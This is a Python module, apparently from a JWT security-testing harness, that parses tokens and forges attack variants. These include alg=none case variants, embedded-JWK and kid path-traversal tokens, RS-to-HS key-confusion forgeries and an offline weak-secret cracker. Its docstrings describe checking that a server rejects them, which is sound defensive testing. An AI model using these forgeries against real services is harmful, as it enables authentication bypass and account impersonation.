"""Reading JWTs and forging attack tokens with the standard library only.

JWT libraries refuse to build most attack tokens on purpose (PyJWT will not HMAC-sign
with a PEM public key, nor emit `alg: none` variants in odd case), so the harness builds
them from base64url and hmac itself. Nothing here talks to the app.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import hmac
import json
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from typing import Any

HMAC_DIGESTS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
# alg=none as attackers write it: libraries that compare case-sensitively miss some.
NONE_VARIANTS = ("none", "None", "NONE", "nOnE")
# RFC 8725 §3.5 / WSTG: secrets from tutorials and READMEs (jwt.io's default, jsonwebtoken's "shhhhh").
WEAK_SECRETS = (
    "secret", "changeme", "password", "your-256-bit-secret", "your_jwt_secret", "jwt_secret", "jwtsecret",
    "supersecret", "mysecretkey", "secretkey", "shhhhh", "keyboard cat", "secret123", "test", "dev",
    "development", "changeit", "my-secret", "mysecret", "jwt-secret", "s3cr3t", "123456", "shelf",
)


def b64url_encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _segment(obj: Mapping[str, Any]) -> str:
    return b64url_encode(json.dumps(obj, separators=(",", ":")).encode("utf-8"))


@dataclass(frozen=True)
class Jwt:
    """A compact JWS taken apart; `signing_input` is `header.payload` exactly as received."""

    raw: str
    header: dict[str, Any]
    payload: dict[str, Any]
    signing_input: str
    signature: bytes

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))


def parse(token: str) -> Jwt:
    """Decode without verifying; ValueError says why the string is not a JWT."""
    parts = token.split(".")
    if len(parts) != 3:
        raise ValueError(f"a JWT has 3 dot-separated parts, this has {len(parts)}")
    try:
        header = json.loads(b64url_decode(parts[0]))
        payload = json.loads(b64url_decode(parts[1]))
        signature = b64url_decode(parts[2])
    except (ValueError, UnicodeDecodeError) as exc:
        raise ValueError(f"a JWT part is not base64url-encoded JSON: {exc}") from None
    if not isinstance(header, dict) or not isinstance(payload, dict):
        raise ValueError("the JWT header and payload must be JSON objects")
    return Jwt(token, header, payload, f"{parts[0]}.{parts[1]}", signature)


def claims(token: str) -> dict[str, Any]:
    """The payload of a JWT, or {} for anything else (an opaque token)."""
    try:
        return parse(token).payload
    except ValueError:
        return {}


def unsigned(header: Mapping[str, Any], payload: Mapping[str, Any], signature: str = "") -> str:
    return f"{_segment(header)}.{_segment(payload)}.{signature}"


def hmac_sign(header: Mapping[str, Any], payload: Mapping[str, Any], key: bytes) -> str:
    alg = str(header.get("alg", "HS256"))
    digest = HMAC_DIGESTS[alg]
    signing_input = f"{_segment(header)}.{_segment(payload)}"
    signature = hmac.new(key, signing_input.encode("ascii"), digest).digest()
    return f"{signing_input}.{b64url_encode(signature)}"


def with_claims(token: Jwt, **claims: Any) -> str:
    """The payload changed, the original header and signature kept (a tampered token)."""
    payload = {**token.payload, **claims}
    return f"{token.signing_input.split('.')[0]}.{_segment(payload)}.{b64url_encode(token.signature)}"


def stripped(token: Jwt) -> str:
    return f"{token.signing_input}."


def flipped(token: Jwt) -> str:
    """One bit of the signature changed (the first byte, so base64 padding bits never hide it)."""
    sig = bytearray(token.signature or b"\x00")
    sig[0] ^= 0x01
    return f"{token.signing_input}.{b64url_encode(bytes(sig))}"


def alg_none(token: Jwt, alg: str, **claims: Any) -> str:
    header = {**token.header, "alg": alg}
    return unsigned(header, {**token.payload, **claims})


def embedded_jwk(token: Jwt, key: bytes, **claims: Any) -> str:
    """Signed with the attacker's own key, offered in the header (CVE-2018-0114 style)."""
    header = {"alg": "HS256", "typ": "JWT", "jwk": {"kty": "oct", "k": b64url_encode(key)}}
    return hmac_sign(header, {**token.payload, **claims}, key)


def kid_traversal(token: Jwt, **claims: Any) -> str:
    """`kid` pointing at /dev/null, signed with an empty key: what a file-based key lookup reads."""
    header = {"alg": "HS256", "typ": "JWT", "kid": "../../../../../../../../dev/null"}
    return hmac_sign(header, {**token.payload, **claims}, b"")


def key_confusion(token: Jwt, public_keys: Iterable[bytes], **claims: Any) -> list[tuple[str, str]]:
    """RS/ES→HS confusion: HMAC the token with the server's *public* key bytes as the secret.

    The accepted bytes depend on how the server holds its key (PEM with or without a final
    newline, DER), so every variant is tried; the check passes when none is accepted.
    """
    forged = []
    payload = {**token.payload, **claims}
    for key in public_keys:
        for name, variant in pem_variants(key):
            for alg in HMAC_DIGESTS:
                # The kid stays: the server must pick the same (public) key it verifies RS256 with.
                header = {**token.header, "alg": alg}
                forged.append((f"{alg} with the public key as {name}", hmac_sign(header, payload, variant)))
    return forged


def pem_variants(pem: bytes) -> list[tuple[str, bytes]]:
    text = pem.strip()
    variants = [("PEM", text + b"\n"), ("PEM without the final newline", text)]
    body = b"".join(line for line in text.splitlines() if not line.startswith(b"-----"))
    with contextlib.suppress(ValueError):
        variants.append(("DER", base64.b64decode(body)))
    return variants


def crack(token: Jwt, candidates: Iterable[str] = WEAK_SECRETS) -> str | None:
    """The HMAC secret, when it is one of the candidates (offline: no request is sent)."""
    digest = HMAC_DIGESTS.get(token.alg)
    if digest is None:
        return None
    message = token.signing_input.encode("ascii")
    for secret in candidates:
        if hmac.compare_digest(hmac.new(secret.encode("utf-8"), message, digest).digest(), token.signature):
            return secret
    return None


def lifetime_s(payload: Mapping[str, Any], issued_at: float | None = None) -> float | None:
    """exp − iat (or exp − issued_at when the token carries no iat); None without exp."""
    exp = payload.get("exp")
    if not isinstance(exp, int | float) or isinstance(exp, bool):
        return None
    iat = payload.get("iat")
    start = iat if isinstance(iat, int | float) and not isinstance(iat, bool) else issued_at
    return None if start is None else float(exp) - float(start)


# -- public keys published as JWK, turned into the PEM a server would load -------------

_RSA_OID = bytes.fromhex("06092a864886f70d0101010500")  # rsaEncryption + NULL parameters
_EC_OID = bytes.fromhex("06072a8648ce3d0201")  # id-ecPublicKey
_CURVES = {
    "P-256": bytes.fromhex("06082a8648ce3d030107"),
    "P-384": bytes.fromhex("06052b81040022"),
    "P-521": bytes.fromhex("06052b81040023"),
}


def _der(tag: int, body: bytes) -> bytes:
    size = len(body)
    if size < 0x80:
        return bytes([tag, size]) + body
    length = size.to_bytes((size.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(length)]) + length + body


def _der_uint(value: bytes) -> bytes:
    value = value.lstrip(b"\x00") or b"\x00"
    if value[0] & 0x80:
        value = b"\x00" + value  # keep it positive
    return _der(0x02, value)


def jwk_to_pem(jwk: Mapping[str, Any]) -> bytes | None:
    """SubjectPublicKeyInfo PEM of an RSA or EC public JWK; None for other key types."""
    kty = jwk.get("kty")
    if kty == "RSA" and isinstance(jwk.get("n"), str) and isinstance(jwk.get("e"), str):
        rsa_key = _der(0x30, _der_uint(b64url_decode(jwk["n"])) + _der_uint(b64url_decode(jwk["e"])))
        spki = _der(0x30, _der(0x30, _RSA_OID) + _der(0x03, b"\x00" + rsa_key))
    elif kty == "EC" and jwk.get("crv") in _CURVES and isinstance(jwk.get("x"), str) and isinstance(jwk.get("y"), str):
        point = b"\x04" + b64url_decode(jwk["x"]) + b64url_decode(jwk["y"])
        spki = _der(0x30, _der(0x30, _EC_OID + _CURVES[jwk["crv"]]) + _der(0x03, b"\x00" + point))
    else:
        return None
    body = base64.b64encode(spki).decode("ascii")
    lines = [body[i:i + 64] for i in range(0, len(body), 64)]
    return ("-----BEGIN PUBLIC KEY-----\n" + "\n".join(lines) + "\n-----END PUBLIC KEY-----\n").encode("ascii")
